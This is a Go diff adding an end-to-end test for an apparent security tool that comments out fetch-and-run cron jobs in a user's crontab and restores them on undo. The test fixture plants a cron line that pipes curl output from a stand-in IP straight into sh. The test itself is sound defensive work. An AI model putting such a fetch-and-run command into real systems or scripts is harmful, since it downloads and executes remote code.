@@ -40,3 +40,34 @@ func TestFixNamesWhoMayUseCrontab(t *testing.T) {
 		t.Error("undo gave crontab not back")
 	}
 }
+
+// TestFixUsersTable: a job in the table of an ordinary account is put out of force, by
+// crontab(1) and in the spool's sticky folder, and undo gives the table back.
+func TestFixUsersTable(t *testing.T) {
+	e2e.NeedHosts(t)
+	run := newPostern(t)
+	onMatrix(t, func(s *e2e.Spec) { s.Accounts = true }, func(t *testing.T, h *e2e.Host) {
+		run := &asUser{program: run.program, home: t.TempDir()}
+		run.to(newFixJob(t, h, h.Accounts().Admin))
+		const table = "# mine\n5 4 * * * true\n17 3 * * * curl -s http://198.51.100.7/x.sh | sh\n"
+		h.Run("printf '%s' '" + table + "' | crontab -u plain -")
+		is := func() string {
+			out, errs, _ := h.Exec("crontab -u plain -l; stat -c '%U:%G %a' /var/spool/cron/crontabs/plain; ls -A /var/spool/cron /var/spool/cron/crontabs")
+			return out + errs
+		}
+		before := is()
+		run.want(t, 0, "fix", "apply", "--yes", "--only", "fetch-and-run-jobs")
+		after := is()
+		lines := strings.Split(after, "\n")
+		if lines[1] != "5 4 * * * true" || !strings.HasPrefix(lines[2], "# postern ") || !strings.HasSuffix(lines[2], ": 17 3 * * * curl -s http://198.51.100.7/x.sh | sh") {
+			t.Error(after)
+		}
+		if strings.Join(lines[3:], "\n") != strings.TrimPrefix(before, table) {
+			t.Errorf("%s\nbefore\n%s", after, before)
+		}
+		run.want(t, 0, "fix", "undo")
+		if after := is(); after != before {
+			t.Errorf("undone:\n%sbefore:\n%s", after, before)
+		}
+	})
+}
